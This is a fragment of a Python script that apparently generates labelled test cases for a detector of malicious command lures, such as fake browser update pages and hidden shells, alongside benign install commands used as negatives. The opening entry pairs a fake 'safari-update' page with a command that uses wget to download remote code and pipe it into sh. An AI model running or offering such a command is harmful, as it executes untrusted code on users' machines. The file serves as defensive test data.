    ("https://get.safari-update.test/", "sh -c \"$(wget -qO- https://cdn.umbra-stage.test/g)\""),
]  # fmt: skip
BROWSER_QUIET = [
    ("https://support.apple.com/guide/safari/welcome/mac", "defaults write com.apple.Safari IncludeDevelopMenu -bool true"),
    ("https://www.mozilla.org/en-US/firefox/linux/", "sudo apt install firefox"),
    ("https://firefox-source-docs.mozilla.org/setup/linux_build.html", "curl -LO https://raw.githubusercontent.com/mozilla-firefox/firefox/refs/heads/main/python/mozboot/bin/bootstrap.py"),
    ("https://formulae.brew.sh/cask/firefox", "brew install --cask firefox"),
    ("https://github.com/mozilla/web-ext", "npm install --global web-ext"),
    ("https://developer.apple.com/documentation/safariservices", "xcrun safari-web-extension-converter ./my-extension"),
    ("https://www.mozilla.org/firefox/enterprise/", "msiexec /i Firefox-Setup.msi /qn"),
    ("https://support.mozilla.org/kb/troubleshoot-and-diagnose-firefox-problems", "firefox -safe-mode"),
    ("https://blog.example/2026/safari-tips", "open -a Safari https://www.example.com"),
    ("https://safari-books.example/tutorials/bash", "echo $SHELL"),
]  # fmt: skip


def lures(book: Book) -> None:
    for text, target in HH:
        book.add("hh-remote-help", text, "malicious", "windows", target)
    for text, target in HH_QUIET:
        book.add("hh-remote-help", text, "not_flagged", "windows", target)
    for i, text in enumerate(HIDDEN):
        book.add(
            "hidden-temp-file-shell", text, "malicious", "linux", TERMINAL if i % 2 else UNKNOWN
        )
    for text, expect in HIDDEN_QUIET:
        book.add("hidden-temp-file-shell-near", text, expect, "linux", TERMINAL)
    for i, text in enumerate(BACKGROUND):
        book.add(
            "download-background-switch", text, "malicious", "linux", TERMINAL if i % 2 else UNKNOWN
        )
    for text in BACKGROUND_QUIET:
        book.add("download-background-switch", text, "not_flagged", "linux", TERMINAL)
    for page, text in BROWSER_PAGES:
        book.add("browser-name-update-page", text, "malicious", "macos", TERMINAL, page)
    for page, text in BROWSER_QUIET:
        book.add("browser-name-update-page", text, "not_flagged", "macos", TERMINAL, page)


def build() -> list[dict[str, str]]:
    book = Book("b13f")
    forge_pages(book)
    run_box(book)
    consent(book)
    lures(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
